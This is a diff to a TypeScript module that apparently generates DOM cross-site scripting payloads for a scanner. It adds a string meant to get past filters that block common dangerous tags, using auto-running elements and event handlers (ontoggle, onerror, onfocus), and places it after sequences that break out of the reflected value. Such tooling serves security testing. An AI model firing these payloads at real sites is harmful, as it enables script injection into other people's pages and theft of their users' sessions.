@@ -3,7 +3,7 @@ import { reflectionsOf } from '../dom/reflection.ts';
 import { call, spelledCall } from '../dom/script-calls.ts';
 import { scriptStateAt } from '../dom/script-state.ts';
 import { templatePayloads } from '../dom/template-payloads.ts';
-import { endOfValue, type Payload, payloadsFor } from '../dom/xss-payloads.ts';
+import { endOf, endOfValue, type Payload, payloadsFor } from '../dom/xss-payloads.ts';
 import type { Flow } from './dom-flow.ts';
 
 /** Values to try for a flow, the likeliest first. */
@@ -53,6 +53,9 @@ const handlersBehind = (quote: '"' | "'" | ''): Payload => ({
   value: `${endOfValue(quote)} tabindex=1 autofocus onfocus=${call} onload=${call} onerror=${call} x=${quote}`,
 });
 
+/** What runs by itself, of elements that lists of dangerous ones leave out, behind signs for filters that replace the first of each. */
+const pastLists = `<><details open ontoggle=${call}><video><source onerror=${call}></video><b tabindex=1 autofocus onfocus=${call}>‹nonce›</b>`;
+
 function markupPayloads({ sink, text }: SinkCall, word: string): Payload[] {
   const reflections = reflectionsOf(text, word);
   const payloads = reflections.flatMap(payloadsFor);
@@ -61,7 +64,11 @@ function markupPayloads({ sink, text }: SinkCall, word: string): Payload[] {
   if (written) return [...payloads.slice(0, 2), outOfAttribute, ...inElement, ...payloads.slice(2)];
   // Neither scripts nor the load event of SVG run in markup that is put in: HTML Standard §13.4 and §4.12.1.
   const isRun = ({ value }: Payload) => !/<script|<svg/i.test(value) || value.includes('<img');
-  return payloads.filter(isRun).toSorted((a, b) => Number(b.value.includes('<img')) - Number(a.value.includes('<img')));
+  const [first, ...others] = payloads
+    .filter(isRun)
+    .toSorted((a, b) => Number(b.value.includes('<img')) - Number(a.value.includes('<img')));
+  const ends = new Set(reflections.flatMap((each) => endOf(each) ?? []));
+  return first ? [first, ...[...ends].map((end) => ({ value: end + pastLists })), ...others] : [];
 }
 
 function codePayloads({ sink, text }: SinkCall, word: string): Payload[] {
